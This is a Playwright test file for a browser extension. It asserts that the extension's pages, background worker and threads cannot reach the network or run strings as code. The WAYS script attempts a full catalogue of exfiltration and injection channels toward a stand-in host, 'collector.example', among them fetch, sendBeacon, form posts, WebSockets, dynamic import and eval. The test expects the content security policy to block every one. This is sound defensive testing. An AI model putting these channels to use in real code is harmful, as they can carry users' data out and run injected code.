import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test as base } from '@playwright/test';
import { NOW } from '../clock';
import { launchIn, makeHome } from './extension';
import { expect, test } from './fixtures';
import { requestsIn } from './net-log';

// That nothing leaves is asserted in every test that has the extension, see `fixtures.ts`; here is what it rests on.

base('the log of the network shows what a page, its threads and the background ask for', async () => {
  const asked: string[] = [];
  const server = createServer(({ url = '' }, response) => {
    asked.push(url);
    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end('<p>here');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const home = makeHome('.output/chrome-mv3', NOW);
  const { context, close } = await launchIn(home, { headless: true, now: NOW });
  try {
    const tab = await context.newPage();
    await tab.goto(`${origin}/page`);
    await tab.evaluate(async (address) => {
      const source = `fetch('${address}/thread').finally(() => postMessage('done'))`;
      const thread = new Worker(URL.createObjectURL(new Blob([source])));
      await new Promise((done) => {
        thread.onmessage = done;
      });
      await fetch('/fetched');
    }, origin);
  } finally {
    await close();
    server.close();
  }
  const seen = requestsIn(home.netLog).map((line) => line.replace(`${origin} → ${origin}`, ''));
  home.remove();
  expect(asked).toEqual(expect.arrayContaining(['/thread', '/fetched']));
  expect(seen).toEqual(expect.arrayContaining(['/thread', '/fetched']));
});

const EVIL = 'https://collector.example';

/** Every way out, and every way to make a text into code, as an expression of the names of those that worked. */
const WAYS = `(async (evil) => {
  const worked = [];
  const attempt = async (name, way) => {
    try { if (await way() !== false) worked.push(name); } catch {}
  };
  await attempt('fetch', () => fetch(evil));
  await attempt('fetch without cors', () => fetch(evil, { mode: 'no-cors', method: 'POST', body: 'x' }));
  // DevTools may do what a script of its own turn may not
  const byItself = (way) => () => new Promise((done, fail) => setTimeout(() => { try { done(way()); } catch (error) { fail(error); } }));
  await attempt('eval', byItself(() => (0, eval)('1')));
  await attempt('new Function', byItself(() => new Function('return 1')()));
  await attempt('import', () => import(evil + '/x.js'));
  await attempt('a text for a timer', () => new Promise((done) => {
    globalThis.reached = () => done(true);
    setTimeout('reached()');
    setTimeout(() => done(false), 300);
  }));
  const listen = (target) => new Promise((done, fail) => { target.onload = target.onopen = done; target.onerror = fail; });
  await attempt('WebSocket', () => listen(new WebSocket(evil.replace('https', 'wss'))));
  if (globalThis.document === undefined) return worked;
  await attempt('EventSource', () => listen(new EventSource(evil)));
  await attempt('XMLHttpRequest', () => { const asked = new XMLHttpRequest(); asked.open('GET', evil); asked.send(); return listen(asked); });
  const add = (name, values) => { const element = Object.assign(document.createElement(name), values); document.body.append(element); return element; };
  for (const [name, values] of [['img', { src: evil }], ['script', { src: evil }], ['video', { src: evil }]])
    await attempt(name, () => listen(add(name, values)));
  await attempt('a script in the page', () => { add('script', { textContent: 'globalThis.inline = true' }); return globalThis.inline === true; });
  await attempt('a handler in the page', () => { const button = add('button'); button.setAttribute('onclick', 'globalThis.handled = true'); button.click(); return globalThis.handled === true; });
  const source = 'fetch("' + evil + '").then(() => postMessage(true), () => postMessage(false))';
  await attempt('fetch of a thread made of text', () => { const thread = new Worker(URL.createObjectURL(new Blob([source]))); return new Promise((done, fail) => { thread.onmessage = ({ data }) => done(data); thread.onerror = fail; }); });
  const violated = new Set();
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.add(effectiveDirective));
  navigator.sendBeacon(evil, 'x');
  add('iframe', { src: evil });
  const form = add('form', { action: evil, method: 'post' });
  form.submit();
  add('link', { rel: 'stylesheet', href: evil });
  add('base', { href: evil });
  add('object', { data: evil });
  await new Promise((done) => { const look = () => violated.size >= 6 ? done() : requestAnimationFrame(look); look(); });
  return [...worked, ...[...violated].toSorted()];
})('${EVIL}')`;

const VIOLATED = ['base-uri', 'connect-src', 'form-action', 'frame-src', 'object-src', 'style-src-elem'];

test.describe('whatever a script of the extension might try', () => {
  test.use({ mayFail: true });

  test('no page of it reaches anybody, or runs a text as code', async ({ extension, portal }) => {
    for (const surface of ['dashboard.html#/data', 'popup.html', 'sidepanel.html'] as const) {
      const page = await extension.open(surface);
      expect(await page.evaluate(WAYS), surface).toEqual(VIOLATED);
    }
    expect(portal.strays).toEqual([]);
  });

  test('nor does the background, or a thread', async ({ extension, portal, probe }) => {
    const worker = await extension.worker();
    expect(await worker.evaluate(WAYS)).toEqual([]);
    const started = probe.waitForEvent('worker');
    await probe.evaluate(() => void new Worker('/worker.js'));
    expect(await (await started).evaluate(WAYS)).toEqual([]);
    expect(portal.strays).toEqual([]);
  });
});
